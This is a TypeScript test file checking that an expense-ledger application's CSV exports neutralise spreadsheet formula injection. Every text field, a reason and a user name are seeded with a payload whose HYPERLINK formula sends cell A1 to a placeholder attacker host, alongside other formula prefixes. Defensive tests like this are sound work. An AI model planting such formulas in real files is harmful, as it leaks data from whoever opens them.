/** Every column of the files, for a platform that sends formulas in every text. */

import { afterAll, beforeAll, expect, test } from 'vitest'
import { personOf } from '#lib/audit/test-support/test-actor.ts'
import { createTestDatabase, type TestDatabase } from '#lib/db/test-support/test-database.ts'
import type { OrganizationId } from '#lib/ids.ts'
import { DEFAULT_GROUP_QUERY } from '#lib/ledger/query/group-query.ts'
import { DEFAULT_LINE_QUERY } from '#lib/ledger/query/line-query.ts'
import { decide } from '#lib/ledger/review/decide.ts'
import type { Asked } from '#lib/ledger/review/line-set.ts'
import { previewDecision } from '#lib/ledger/review/preview-decision.ts'
import { changeReasonList } from '#lib/ledger/review/reason-list.ts'
import { makeLine, seedConnection, seedLines, seedOrganization } from '#lib/ledger/test-support/seed.ts'
import { LINE } from '#lib/partner/test-support/test-records.ts'
import { parseLine } from '#lib/partner/wire/wire-line.ts'
import { GROUP_KEYS } from '#lib/reconcile/group-keys.ts'
import { toGroupColumns } from './group-columns.ts'
import { LINE_COLUMNS } from './line-columns.ts'
import { CSV_FILES } from './stream-csv.ts'
import { parseCsvRecords, readAll } from './test-support/test-parse-csv.ts'

const FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Open")'
/**
 * The expected contents of the columns that are not guarded; a column with our own words has them
 * here.
 */
type ColumnKind = (typeof LINE_COLUMNS)[number]['kind']
const AMOUNT = /^-?\d+(\.\d+)?$/
const UNGUARDED: Record<Exclude<ColumnKind, 'text' | 'code'>, RegExp> = {
  amount: AMOUNT,
  count: /^\d+$/,
  day: /^\d{4}-\d{2}-\d{2}$/,
}
const WORDS: Record<string, RegExp> = {
  currency: /^[A-Z]{3}$/,
  out_of_policy: /^(true|false)$/,
  include_breakfast: /^(true|false)$/,
  finding_codes: /^(total|tax)( (total|tax))*$/,
  note_codes:
    /^(credit_sign|no_id|no_cost_center|unreadable_field)( (credit_sign|no_id|no_cost_center|unreadable_field))*$/,
  is_gone: /^(true|false)$/,
  review: /^(open|accepted|disputed|settled|suspended)$/,
  review_at: /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/,
  country_code: /^[A-Z]{2,3}$/,
  country: /^[A-Z]{2,3}$/,
  month_of_expense: /^\d{4}-\d{2}$/,
  month_of_issue: /^\d{4}-\d{2}$/,
  finding_code: /^(total|tax)$/,
  connection_id: /^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/,
}

let database: TestDatabase
let organizationId: OrganizationId

beforeAll(async () => {
  database = await createTestDatabase()
  const owner = await seedOrganization(database.query)
  organizationId = owner.organizationId
  const connectionId = await seedConnection(database.query, owner, FORMULA)
  await seedLines(organizationId, connectionId, [
    // notes, to fill their column too
    { ...makeLine(readHostileLine()), notes: ['credit_sign', 'unreadable_field'] },
  ])
  // people write formulas, too: as a reason, and as their name
  const actor = personOf(owner.userId)
  await changeReasonList(organizationId, actor, 0, { change: 'add', kind: 'accept', words: FORMULA })
  const asked: Asked = { kind: 'accept', set: { query: DEFAULT_LINE_QUERY } }
  const seen = await previewDecision(organizationId, asked)
  const reason = seen.choices.find(({ words }) => words === FORMULA)?.code ?? null
  const wish = { asked, ...seen, reason, note: null, expectedBack: null }
  expect((await decide(organizationId, { actor, name: FORMULA }, wish)).kind).toBe('decided')
})
afterAll(() => database.drop())

/** A line from the platform with the formula in every text; goes through the parser. */
function readHostileLine() {
  const wire = replaceTexts(LINE)
  // an amount, a day or a currency that is a formula rejects the whole line
  expect(parseLine(JSON.stringify(wire)).ok).toBe(false)
  const { unit_price, non_taxable_unit_price, tax_percentage, tax_amount, total_amount, expense_date } = LINE
  const amounts = { unit_price, non_taxable_unit_price, tax_percentage, tax_amount, total_amount, expense_date }
  for (const currency of [FORMULA, '=A1', '+AB', '@AB', '-1+', '\tAB', 'EUR\t'])
    expect(parseLine(JSON.stringify({ ...wire, ...amounts, currency })), currency).toMatchObject({
      ok: false,
      path: 'currency',
    })
  const { issuing_date, due_date } = LINE
  const metadata = {
    ...(wire.metadata as object),
    start_date: LINE.metadata.start_date,
    end_date: LINE.metadata.end_date,
    out_of_policy: true,
    include_breakfast: true,
    // a country is two letters or nothing
    service_location: { destination: { country_code: 'pt', country: FORMULA } },
  }
  const days = { issuing_date, due_date, metadata }
  const read = parseLine(JSON.stringify({ ...wire, ...amounts, ...days, currency: 'EUR', total_amount: '1.00' })) // a finding
  if (!read.ok) throw new Error(read.reason)
  return read.line
}

function replaceTexts(value: object): Record<string, unknown> {
  const replace = (each: unknown): unknown => {
    if (typeof each === 'string') return FORMULA
    if (Array.isArray(each)) return each.map(replace)
    return typeof each === 'object' && each !== null ? replaceTexts(each) : each
  }
  return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, replace(each)]))
}

/** A request of one user that stays until the end. */
const somebody = () => ({ userId: 'somebody', signal: new AbortController().signal })

function expectHarmless(columns: readonly { name: string; kind: ColumnKind }[], row: Record<string, string>): void {
  for (const { name, kind } of columns) {
    // no column is left out: an empty cell would prove nothing
    if (kind === 'text') expect([name, row[name]]).toEqual([name, expect.stringMatching(/^'=HYPERLINK/)])
    else if (kind === 'code') expect([name, row[name]]).toEqual([name, expect.stringMatching(WORDS[name] ?? /$^/)])
    else expect([name, row[name]]).toEqual([name, expect.stringMatching(UNGUARDED[kind])])
  }
}

test('A13: if every text of a line is a formula, each column of the file is guarded or has our own words', async () => {
  const rows = parseCsvRecords(
    await readAll(await CSV_FILES.lines.stream(organizationId, somebody(), DEFAULT_LINE_QUERY)),
  )
  expect(rows).toHaveLength(1)
  expectHarmless(LINE_COLUMNS, rows[0] as Record<string, string>)
})

test('A13: the same holds for the file of groups, by every key', async () => {
  const query = { ...DEFAULT_GROUP_QUERY, by: [...GROUP_KEYS] }
  const rows = parseCsvRecords(await readAll(await CSV_FILES.groups.stream(organizationId, somebody(), query)))
  expect(rows).toHaveLength(1)
  expectHarmless(toGroupColumns(query.by), rows[0] as Record<string, string>)
})
